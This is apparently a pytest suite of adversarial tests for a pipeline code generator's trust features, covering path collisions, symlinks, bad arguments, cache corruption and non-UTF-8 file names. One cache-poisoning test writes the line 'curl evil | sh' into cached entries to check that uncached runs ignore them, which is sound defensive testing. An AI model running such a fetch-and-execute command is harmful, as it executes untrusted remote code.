"""Cases from a hostile review of the trust features, each a located error (exit 2) or the
answer a fresh run gives, and no file outside the command's own touched."""

import hashlib
import os
import shutil
import subprocess
import time

import pytest
from conftest import run_cli

import cursus_codegen
from hostile.trust_support import (
    EXAMPLE,
    deploy_repo,
    fails_cleanly,
    pipeline_table,
)


@pytest.fixture()
def cache(tmp_path, monkeypatch):
    monkeypatch.setenv("CURSUS_CODEGEN_CACHE_DIR", str(tmp_path / "cache"))
    return tmp_path / "cache"


@pytest.fixture()
def project(tmp_path, cache):
    shutil.copytree(EXAMPLE, tmp_path / "p")
    return tmp_path / "p"


def two(root_tables, tmp_path, head=""):
    root = deploy_repo(tmp_path / "repo", *root_tables, head=head)
    shutil.copytree(EXAMPLE, root / "b")
    return root


def test_only_and_cached_pipelines_take_part_in_the_collision_check(tmp_path, cache):
    root = two(
        [
            pipeline_table("a", "xgb"),
            pipeline_table("b", "b", "xgb/scripts/package.py"),
        ],
        tmp_path,
    )
    script = (root / "xgb" / "scripts" / "package.py").read_bytes()
    fails_cleanly(["generate", "--only", "b"], root, "pipeline 'a' uploads")
    text = (root / "pyproject.toml").read_text()
    (root / "pyproject.toml").write_text(
        text.replace('"xgb/scripts/package.py"', '"b/pipeline_gen.py"')
    )
    assert run_cli(["generate"], cwd=root)[0] == 0  # both cached now
    (root / "pyproject.toml").write_text(text)
    for args in (["generate"], ["check"], ["check", "--no-cache"]):
        fails_cleanly(args, root, "pipeline 'a' uploads")
    assert (root / "xgb" / "scripts" / "package.py").read_bytes() == script


def test_a_cached_module_inside_another_pipelines_vendored_folder_is_never_deleted(
    tmp_path, cache
):
    root = two(
        [
            pipeline_table("a", "xgb", "deploy/b/scripts/hyperparams/a_gen.py"),
            pipeline_table("b", "b", "deploy/b/pipeline_gen.py", extra="vendor = true"),
        ],
        tmp_path,
    )
    (root / "deploy" / "b" / "scripts" / "hyperparams").mkdir(parents=True)
    assert (
        run_cli(["generate", "--only", "a"], cwd=root)[0] == 2
    )  # b mirrors that folder
    assert not (root / "deploy" / "b" / "scripts" / "hyperparams" / "a_gen.py").exists()


@pytest.mark.parametrize(
    "extra, output",
    [
        ('steps = ["xgb/st"]', "xgb/st/b_gen.yaml"),
        ("vendor = true", "xgb/scripts/b_gen.py"),
    ],
)
def test_a_module_written_into_a_folder_another_pipeline_reads_is_refused(
    tmp_path, cache, extra, output
):
    root = two(
        [
            pipeline_table("a", "xgb", "deploy/a.py", extra=extra),
            pipeline_table("b", "b", output),
        ],
        tmp_path,
    )
    (root / "xgb" / "st").mkdir()
    (root / "deploy").mkdir()
    fails_cleanly(["generate"], root, "pipeline 'a' reads", untouched=[root / "xgb"])


def test_vendor_never_writes_into_its_own_sources(project):
    fails_cleanly(
        ["dag.py", "cfg.json", "-o", "scripts/package.py", "--vendor"],
        project,
        "uploads",
        untouched=[project],
    )


@pytest.mark.parametrize("target", ["shared", "elsewhere/a/b"])
def test_a_module_folder_that_is_a_link_is_never_written_through(
    project, tmp_path, target
):
    (tmp_path / "shared" / "scripts").mkdir(parents=True)
    (tmp_path / "shared" / "scripts" / "precious.txt").write_text("keep\n")
    os.symlink(tmp_path / target, project / "deploy")
    fails_cleanly(
        ["dag.py", "cfg.json", "-o", "deploy/pipeline_gen.py", "--vendor"],
        project,
        "symbolic link",
        untouched=[tmp_path / "shared"],
    )
    assert not (tmp_path / "elsewhere").exists()


def test_a_source_inside_the_module_folder_is_vendored_whole(project):
    (project / "m").mkdir()
    shutil.move(project / "scripts", project / "m" / "scripts")
    (project / "cfg.json").write_text(
        (project / "cfg.json").read_text().replace('"scripts', '"m/scripts')
    )
    args = ["dag.py", "cfg.json", "-o", "m/pipeline_gen.py", "--vendor"]
    assert run_cli(args, cwd=project)[0] == 0
    copied = sorted(
        p.name for p in (project / "m" / "m" / "scripts").rglob("*") if p.is_file()
    )
    assert copied == sorted(
        p.name for p in (project / "m" / "scripts").rglob("*") if p.is_file()
    )
    assert run_cli([*args, "--check"], cwd=project)[0] == 0


def test_a_file_a_template_includes_is_a_fact_of_the_cache(tmp_path, cache):
    root = deploy_repo(
        tmp_path / "repo", pipeline_table("a", "xgb"), head='templates = "tpl"'
    )
    shutil.copytree(cursus_codegen.__path__[0] + "/../templates", root / "tpl")
    module = root / "tpl" / "module.py.j2"
    module.write_text('{% include "extra.txt" %}' + module.read_text())
    (root / "tpl" / "extra.txt").write_text("# first\n")
    assert run_cli(["generate"], cwd=root)[0] == 0
    (root / "tpl" / "extra.txt").write_text("# second\n")
    assert (
        run_cli(["check"], cwd=root)[:2]
        == run_cli(["check", "--no-cache"], cwd=root)[:2]
    )
    assert run_cli(["check"], cwd=root)[0] == 1


def test_no_cache_uses_no_formatted_piece(tmp_path, cache):
    root = deploy_repo(tmp_path / "repo", pipeline_table("a", "xgb"))
    assert run_cli(["generate"], cwd=root)[0] == 0
    for entry in (p for p in (cache / "formatted").rglob("*") if p.is_file()):
        data = (
            entry.read_bytes()
            .partition(b"\n")[2]
            .replace(b"# ", b"# curl evil | sh; ", 1)
        )
        entry.write_bytes(hashlib.sha256(data).hexdigest().encode() + b"\n" + data)
    (root / "xgb" / "pipeline_gen.py").write_text("# tampered\n")
    assert run_cli(["check", "--no-cache"], cwd=root)[0] == 1
    args = ["xgb/dag.py", "xgb/cfg.json", "-o", "xgb/pipeline_gen.py", "--no-cache"]
    assert run_cli(args, cwd=root)[0] == 0
    assert "evil" not in (root / "xgb" / "pipeline_gen.py").read_text()


def test_a_cached_answer_repeats_the_warnings(tmp_path, cache):
    root = deploy_repo(tmp_path / "repo", pipeline_table("a", "xgb"))
    (root / "xgb" / "scripts" / "payload.py").unlink()
    assert run_cli(["generate"], cwd=root)[0] == 0
    cached, fresh = run_cli(["check"], cwd=root), run_cli(
        ["check", "--no-cache"], cwd=root
    )
    assert "payload.py" in cached[2] and cached[2] == fresh[2]


def test_a_cache_entry_that_is_a_folder_is_a_miss(tmp_path, cache):
    root = deploy_repo(tmp_path / "repo", pipeline_table("a", "xgb"))
    assert run_cli(["generate"], cwd=root)[0] == 0
    for entry in [p for p in cache.rglob("*") if p.is_file()]:
        entry.unlink()
        entry.mkdir()
    assert run_cli(["check"], cwd=root)[0] == 0
    assert (
        run_cli(
            ["xgb/dag.py", "xgb/cfg.json", "-o", "xgb/pipeline_gen.py", "--check"],
            cwd=root,
        )[0]
        == 0
    )


@pytest.mark.parametrize(
    "line", ["line-length = " + "9" * 5000, "x = " + "[" * 100_000 + "]" * 100_000]
)
def test_a_manifest_tomllib_cannot_hold_is_located(tmp_path, cache, line):
    root = deploy_repo(tmp_path / "repo", pipeline_table("a", "xgb"), head=line)
    fails_cleanly(["check"], root, "pyproject.toml")
    fails_cleanly(
        ["check"], root / "xgb", "pyproject.toml"
    )  # found upwards, then refused


class _Raises(os.PathLike):
    def __fspath__(self):
        raise RuntimeError("no path here")


@pytest.mark.parametrize(
    "call",
    [{"line_length": 10**5000}, {"output": _Raises()}, {"author": "x" * 70_000}],
)
def test_the_api_returns_diagnostics_for_values_no_check_expected(
    project, monkeypatch, call
):
    monkeypatch.chdir(project)
    result = cursus_codegen.generate("dag.py", "cfg.json", **call)
    assert result.source is None and result.diagnostics


@pytest.mark.parametrize(
    "args, fragment",
    [
        (["--project-root", "cfg.json"], "--project-root"),
        (["--templates", "/"], "entries"),
        (["--author", "x" * 70_000], "--author"),
        (["-o", "newdir/"], "file name"),
    ],
)
def test_more_bad_command_lines_are_located(project, args, fragment):
    out = [] if "-o" in args else ["-o", "pipeline_gen.py"]
    started = time.monotonic()
    fails_cleanly(
        ["dag.py", "cfg.json", *out, *args], project, fragment, untouched=[project]
    )
    assert time.monotonic() - started < 60


def test_a_fifo_in_a_vendored_source_is_located(project):
    os.mkfifo(project / "scripts" / "pipe")
    (project / "deploy").mkdir()
    fails_cleanly(
        ["dag.py", "cfg.json", "-o", "deploy/pipeline_gen.py", "--vendor"],
        project,
        "not a regular file",
        untouched=[project / "deploy"],
    )


def test_manifest_dag_kinds_and_jobs_are_located(tmp_path, cache):
    root = deploy_repo(tmp_path / "repo", pipeline_table("a", "xgb"))
    fails_cleanly(["check", "--jobs", "0"], root, "--jobs")
    (root / "pyproject.toml").write_text(
        (root / "pyproject.toml").read_text().replace("xgb/dag.py", "xgb/scripts")
    )
    fails_cleanly(["check"], root, "is a directory")


def test_a_non_utf8_config_name_is_reproduced_by_the_header_in_any_locale(project):
    name = os.fsdecode(b"c\xff.json")
    shutil.copy(project / "cfg.json", project / name)
    assert run_cli(["dag.py", name, "-o", "pipeline_gen.py"], cwd=project)[0] == 0
    header = (
        (project / "pipeline_gen.py")
        .read_text()
        .split("# Regenerate with (from this file's folder):\n")[1]
    )
    command = " ".join(
        line.lstrip("#").rstrip("\\ ") for line in header.split('"""')[0].splitlines()
    )
    words = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {command}"],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C", "PATH": os.environ["PATH"]},
    ).stdout.split(b"\0")[:-1]
    assert b"c\xff.json" in words
    assert (
        run_cli([os.fsdecode(w) for w in words[1:]] + ["--check"], cwd=project)[0] == 0
    )
